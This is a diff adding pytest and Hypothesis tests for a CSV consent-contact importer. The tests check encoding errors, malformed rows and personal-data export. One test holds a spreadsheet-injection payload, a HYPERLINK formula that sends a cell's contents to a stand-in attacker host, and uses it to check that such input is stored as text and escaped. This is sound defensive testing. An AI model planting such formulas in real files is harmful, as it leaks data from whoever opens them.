@@ -5,12 +5,14 @@ from __future__ import annotations
 import csv
 import html
 import io
+import json
 import string
+import zipfile
 from pathlib import Path
 
 import httpx
 import pytest
-from hypothesis import given
+from hypothesis import event, given
 from hypothesis import strategies as st
 from sqlalchemy import func, select
 from sqlalchemy.ext.asyncio import AsyncSession
@@ -30,6 +32,7 @@ from tresen.db.tables import (
 )
 from tresen.inbox import accounts
 from tresen.privacy import erasure
+from tresen.privacy.export import export_contact
 from tresen.runtime import Runtime
 from tresen.web import i18n, topics_admin
 
@@ -349,6 +352,82 @@ def test_every_refusal_has_german_words_with_the_same_fields() -> None:
     )
 
 
+def test_bad_files_get_a_clear_error() -> None:
+    for data, code in [
+        (b"", "file_empty"),
+        (b"\xef\xbb\xbf\r\n \r\n", "file_empty"),
+        (HEADER.encode() + b"\n", "no_rows"),
+        (b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n\r\n,,\r\n", "no_rows"),
+        (b"x" * (importer.MAX_BYTES + 1), "file_too_large"),
+        (HEADER.encode() + b"\nwhatsapp,+4915111111111,de,M\xfcller,2025-01-01,v1,\n", "not_utf8"),
+        (HEADER.encode() + b"\nwhatsapp,+49151\x00,de,Shop,2025-01-01,v1,\n", "nul_bytes"),
+        (HEADER.replace("channel", "kanal").encode(), "header_lacks"),
+        ((HEADER + ",address").encode(), "duplicate_column"),
+    ]:
+        with pytest.raises(importer.ImportFileError) as caught:
+            importer.parse_csv(data)
+        assert caught.value.code == code, (data[:80], caught.value)
+    latin1 = "channel;address;consent_source;consent_at;consent_proof\nwhatsapp;+4915111111111;Laden Köln;2025-01-01;Zettel\n"
+    where = latin1.encode("latin-1").index("ö".encode("latin-1"))
+    with pytest.raises(importer.ImportFileError, match=rf"not UTF-8 \(line 2, byte {where}\)"):
+        importer.parse_csv(latin1.encode("latin-1"))
+    assert len(importer.parse_csv(latin1.encode()).rows) == 1
+
+
+def test_rows_with_too_many_fields_or_odd_quoting_are_refused_by_line() -> None:
+    data = _csv(
+        "whatsapp,+4915111111111,de,Shop,2025-03-01,v1,,extra,fields",
+        'whatsapp,+4915122222222,de,"Shop, Berlin",2025-03-01,v1,',  # a quoted comma is fine
+        'whatsapp,+4915133333333,de,"Laden\nMitte",2025-03-01,v1,',  # two lines, one record
+        "whatsapp,+4915144444444,de,Shop,2025-03-01,v1,",
+    )
+    parsed = importer.parse_csv(data)
+    assert [(p.line, p.code, dict(p.params)) for p in parsed.problems] == [
+        (2, "field_count", {"found": 9, "expected": 7}),
+        (4, "control_characters", {"column": "consent_source"}),
+    ]
+    assert [r.line for r in parsed.rows] == [3, 6] and parsed.rows[0].consent_source == (
+        "Shop, Berlin"
+    )
+
+
+async def test_a_formula_in_a_name_is_stored_as_text_and_exported_escaped(
+    runtime: Runtime, tmp_path: Path
+) -> None:
+    ws, topic = await _setup(runtime)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
+    data = _csv(
+        f'whatsapp,+4915111111111,"{formula.replace(chr(34), chr(34) * 2)}",de,'
+        "+Shop,2025-03-01,@v1,-1",
+        header="channel,address,name,language,consent_source,consent_at,"
+        "consent_text_version,consent_proof",
+    )
+    assert (await _import(runtime, ws, topic, data)).imported == 1
+    async with runtime.sessions() as session:
+        contact = await session.scalar(select(Contact))
+        event = await session.scalar(select(ConsentEvent))
+    assert contact is not None and contact.display_name == formula
+    assert event is not None and event.source == "import: +Shop; proof -1"
+    # There is no CSV export: a person's data leaves as JSON and escaped HTML, never a sheet.
+    out = tmp_path / "export.zip"
+    await export_contact(
+        runtime.sessions,
+        workspace_id=ws,
+        contact_id=contact.id,
+        data_dir=runtime.settings.data_dir,
+        out=out,
+        actor_id=None,
+        via="test",
+    )
+    with zipfile.ZipFile(out) as archive:
+        names = archive.namelist()
+        exported = json.loads(archive.read("data.json"))
+        page = archive.read("index.html").decode()
+    assert not [n for n in names if n.endswith((".csv", ".xlsx", ".ods"))]
+    assert exported["contact"]["display_name"] == formula
+    assert html.escape(formula) in page and formula not in page
+
+
 def test_whole_file_errors_are_clear() -> None:
     with pytest.raises(importer.ImportFileError, match=r"not UTF-8 \(line 2"):
         importer.parse_csv(HEADER.encode() + b"\nwhatsapp,+49151,de,Caf\xe9,2025-01-01,v,\n")
@@ -387,11 +466,15 @@ def test_every_row_is_imported_or_refused_with_its_line(
     writer = csv.DictWriter(out, fieldnames=HEADER.split(","), delimiter=delimiter)
     writer.writeheader()
     writer.writerows(rows)
+    blank = sum(1 for r in rows if not any(v.strip() for v in r.values()))
+    if blank == len(rows):
+        with pytest.raises(importer.ImportFileError, match="no rows"):
+            importer.parse_csv(out.getvalue().encode())
+        return
     parsed = importer.parse_csv(out.getvalue().encode())
     # Each non-blank record is either a row or a problem, never both, never lost.
     lines = [r.line for r in parsed.rows] + [p.line for p in parsed.problems]
     assert len(lines) == len(set(lines)) == parsed.records
-    blank = sum(1 for r in rows if not any(v.strip() for v in r.values()))
     assert parsed.records == len(rows) - blank
     for row in parsed.rows:
         assert row.consent_source and row.consent_at and (row.text_version or row.proof)
@@ -405,6 +488,87 @@ def test_parser_never_fails_on_bytes(data: bytes) -> None:
         assert str(exc)
         return
     assert parsed.records == len(parsed.rows) + len(parsed.problems)
+
+
+_GERMAN = i18n.catalog("de")
+_column = st.sampled_from([*sorted(importer.KNOWN), "", "Consent Source", "shoe_size"])
+_cell_text = st.one_of(
+    st.sampled_from(["whatsapp", "+4915111111111", "2025-03-01", "v1", "yes", "de", "=1+1"]),
+    st.text(alphabet=st.sampled_from(list("ab1+ ,;\t\"'\n\r=@é\ufeff\x7f\x85")), max_size=12),
+    st.text(max_size=12),
+)
+
+
+_GOOD = {
+    "channel": "whatsapp",
+    "address": "+49 151 11111111",
+    "consent_source": "Shop",
+    "consent_at": "2025-03-01T10:00:00+01:00",
+    "consent_text_version": "v1",
+    "consent_proof": "Formular 7",
+    "language": "en",
+    "name": "Jürgen",
+    "link_tracking": "ja",
+}
+
+
+@st.composite
+def _table(draw: st.DrawFn) -> list[list[str]]:
+    """A header and rows: mostly good values, some odd cells, some rows too short or long."""
+    header = draw(
+        st.one_of(
+            st.permutations([*HEADER.split(","), "name", "link_tracking"]),
+            st.lists(_column, min_size=1, max_size=9),
+        )
+    )
+    rows = []
+    for _ in range(draw(st.integers(0, 8))):
+        odd = draw(st.sets(st.sampled_from(header), max_size=2))
+        cells = [draw(_cell_text) if c in odd else _GOOD.get(c, "") for c in header]
+        if draw(st.integers(0, 5)) == 0:
+            cells = cells[: draw(st.integers(0, len(cells)))] + draw(st.lists(_cell_text))
+        rows.append(cells)
+    return [header, *rows]
+
+
+@given(
+    table=_table(),
+    delimiter=st.sampled_from([",", ";", "\t"]),
+    newline=st.sampled_from(["\n", "\r\n", "\r"]),
+    quoted=st.booleans(),
+    bom=st.booleans(),
+)
+def test_parse_csv_refuses_only_with_import_file_errors_and_loses_no_row(
+    table: list[list[str]], delimiter: str, newline: str, quoted: bool, bom: bool
+) -> None:
+    if quoted:  # well-formed CSV, as a spreadsheet writes it
+        out = io.StringIO()
+        csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(table)
+        text = out.getvalue()
+    else:  # cells joined as they are: stray quotes, delimiters and line breaks included
+        text = newline.join(delimiter.join(cells) for cells in table)
+    data = (("\ufeff" if bom else "") + text).encode()
+    try:
+        parsed = importer.parse_csv(data)
+    except importer.ImportFileError as exc:
+        event(exc.code)
+        assert exc.code in importer.MESSAGES and str(exc)
+        assert exc.text(lambda m: _GERMAN.get(m, m))
+        return
+    event("parsed" if parsed.rows else "parsed, every row refused")
+    accepted = [r.line for r in parsed.rows]
+    refused = [p.line for p in parsed.problems]
+    assert parsed.records == len(accepted) + len(refused) > 0
+    assert len(set(accepted + refused)) == parsed.records  # one verdict per record
+    for problem in parsed.problems:
+        assert problem.code in importer.MESSAGES and problem.message
+        assert problem.text(lambda m: _GERMAN.get(m, m))
+    for row in parsed.rows:
+        assert row.channel and row.address and row.consent_source
+        assert row.text_version or row.proof
+        assert row.language in ("de", "en")
+        for value in (row.channel, row.address, row.name, row.consent_source, row.proof):
+            assert len(value) <= importer.MAX_FIELD and not any(ord(c) < 32 for c in value)
 
 
 @given(st.text(max_size=30))
@@ -468,6 +632,11 @@ def test_cli_import_reports_lines_and_exit_codes(
     (tmp_path / "bad.csv").write_bytes(b"\xff\xfe\x00")
     bad = runner.invoke(app, ["topic", "import", str(tmp_path / "bad.csv"), "--topic", "ticker"])
     assert bad.exit_code == 2 and "not UTF-8" in bad.output
+    (tmp_path / "header.csv").write_bytes(_csv())
+    header = runner.invoke(
+        app, ["topic", "import", str(tmp_path / "header.csv"), "--topic", "ticker"]
+    )
+    assert header.exit_code == 2 and "the file has a header but no rows" in header.output
     links_out = runner.invoke(app, ["topic", "links", "ticker", "--qr-out", str(tmp_path / "qr")])
     assert links_out.exit_code == 0 and "missing: display_phone_number" in links_out.output
     channel_id = added.output.split()[2]
